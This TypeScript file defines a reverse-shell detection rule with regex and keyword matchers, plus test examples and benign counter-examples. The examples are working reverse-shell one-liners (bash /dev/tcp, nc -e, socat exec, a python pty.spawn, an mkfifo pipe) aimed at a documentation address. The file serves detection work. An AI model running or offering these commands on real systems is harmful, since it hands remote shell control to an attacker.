import type { RuleWithExamples } from './rule-with-examples.ts';

export const reverseShell: RuleWithExamples = {
  rule: {
    title: 'A shell is handed to another machine',
    id: 'reverse-shell',
    description: 'Whoever listens there has the rights of the account that ran it.',
    level: 'critical',
    detection: {
      device: {
        'CommandLine|contains': ['/dev/tcp/', '/dev/udp/'],
      },
      netcat: {
        'CommandLine|re': '(?:^|[\\s;|&/(`])(?:nc|ncat|netcat|nc\\.traditional|nc\\.openbsd)\\s[^|;&]{0,300}?(?:-[a-zA-Z]{0,8}[ec]\\s|--(?:sh-)?exec[\\s=])',
      },
      socat: {
        'CommandLine|contains|all': ['socat', 'exec:'],
        'CommandLine|contains': ['tcp', 'openssl', 'udp'],
      },
      interpreter: {
        'CommandLine|contains': ['python', 'perl', 'ruby', 'php', 'lua', 'node'],
      },
      connects: {
        'CommandLine|contains': ['socket', 'fsockopen', 'net.connect'],
      },
      shell: {
        'CommandLine|contains': ['/bin/sh', '/bin/bash', 'dup2', 'pty.spawn', 'subprocess', 'exec sh'],
      },
      pipe: {
        'CommandLine|contains': ['mkfifo', 'mknod'],
        'CommandLine|re': '(?:^|[\\s;|&/(`])(?:nc|ncat|netcat|telnet|openssl)\\s',
      },
      condition: 'device or netcat or socat or (interpreter and connects and shell) or pipe',
    },
  },
  examples: [
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    'nc -e /bin/sh 192.0.2.1 4444',
    ['/usr/bin/ncat', '192.0.2.1', '4444', '--exec', '/bin/bash'],
    ['socat', 'tcp-connect:192.0.2.1:4444', 'exec:/bin/sh,pty'],
    ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'],
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
  ],
  counterExamples: [
    'nc -zv db.example.com 5432',
    ['socat', '-', 'UNIX-CONNECT:/run/haproxy/admin.sock'],
    "python3 -c 'import socket; print(socket.gethostname())'",
    'rsync -e ssh a b:',
    'mkfifo /tmp/queue',
    'sync -c x',
  ],
};
